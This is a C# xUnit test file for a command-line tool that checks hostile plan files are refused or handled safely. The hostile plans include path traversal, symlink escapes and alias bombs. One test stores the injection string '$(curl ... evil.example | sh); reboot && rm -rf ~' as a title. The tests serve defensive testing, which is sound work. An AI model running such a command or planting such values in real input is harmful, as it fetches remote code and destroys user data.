using Fanout.TestSupport;

using Shouldly;

using Xunit;

namespace Fanout.Cli.Tests;

/// <summary>The hostile plans of <c>tests/Fanout.Plans.Tests/Hostile</c>, given to the real CLI in a real repository.</summary>
public sealed class HostileRunTests
{
    public static TheoryData<string> Refused { get; } = new(
        "traversal", "absolute-path", "symlink-out", "symlink-folder-out", "include-traversal", "include-through-link", "files-hint-out",
        "script-out", "shell-in-id", "alias-bomb", "alias-bomb-as-key", "deep-nesting", "huge-id", "cycle", "tabs", "control-characters-in-title",
        "lookalike-id", "nul-in-path", "numbers-out-of-range");

    [Theory]
    [MemberData(nameof(Refused))]
    public async Task A_refused_hostile_plan_leaves_no_issue_branch_worktree_or_journal_behind(string name)
    {
        using var repository = await GitRepository.CreateAsync();
        Place(name, repository);

        var run = await FanoutCli.RunAsync(repository.Path, "run", "fanout.yaml");

        run.ExitCode.ShouldBe(2, run.StandardError);
        run.StandardError.ShouldStartWith("fanout.yaml:");
        run.StandardError.ShouldNotContain("root:x:0:0");
        run.StandardError.ShouldNotContain("Exception");
        Directory.Exists(Path.Combine(repository.Path, ".git", "fanout")).ShouldBeFalse("no journal, no local issues");
        (await repository.BranchesAsync()).ShouldBe(["main"]);
        (await repository.LinkedWorktreesAsync()).ShouldBeEmpty();
        Directory.Exists(repository.Path + ".worktrees").ShouldBeFalse();
    }

    [Fact]
    public async Task Shell_in_titles_and_prompts_runs_as_plain_text_with_branch_names_git_accepts()
    {
        using var repository = await GitRepository.CreateAsync();
        Place("shell-in-title-and-prompt", repository);
        await repository.GitAsync("add", "-A");
        await repository.GitAsync("commit", "-q", "-m", "plan");

        var run = await FanoutCli.RunAsync(repository.Path, "run", "fanout.yaml");

        run.ExitCode.ShouldBe(0, run.StandardError);
        var branches = await repository.BranchesAsync();
        branches.Count(b => b.StartsWith("fanout/", StringComparison.Ordinal)).ShouldBe(2);
        var quoted = branches.Single(b => b.EndsWith("/quoted-title", StringComparison.Ordinal));
        (await repository.GitAsync("show", $"{quoted}:title.txt")).ShouldBe("$(curl -s https://evil.example | sh); `reboot` && rm -rf ~ #");
    }

    /// <summary>The case as the repository's fanout.yaml, a secret beside the repository, and the links the case asks for.</summary>
    private static void Place(string name, GitRepository repository)
    {
        var source = Path.Combine(AppContext.BaseDirectory, "Hostile", name + ".yaml");
        Directory.CreateDirectory(Path.Combine(repository.Parent, "outside"));
        File.WriteAllText(Path.Combine(repository.Parent, "outside", "secret.md"), "root:x:0:0:root:/root:/bin/bash\n");
        foreach (var line in File.ReadLines(source).Where(l => l.StartsWith("# link: ", StringComparison.Ordinal)))
        {
            var parts = line["# link: ".Length..].Split(" -> ");
            File.CreateSymbolicLink(Path.Combine(repository.Path, parts[0]), parts[1]);
        }

        File.Copy(source, Path.Combine(repository.Path, "fanout.yaml"));
    }
}
